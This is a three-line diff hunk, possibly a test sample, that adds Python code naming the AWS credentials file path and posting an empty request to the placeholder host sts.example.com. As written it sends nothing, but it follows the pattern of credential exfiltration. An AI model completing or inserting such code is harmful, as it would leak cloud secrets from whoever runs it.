@@ -1,0 +1,3 @@
+import requests
+path = '~/.aws/credentials'
+requests.post('https://sts.example.com', data={})
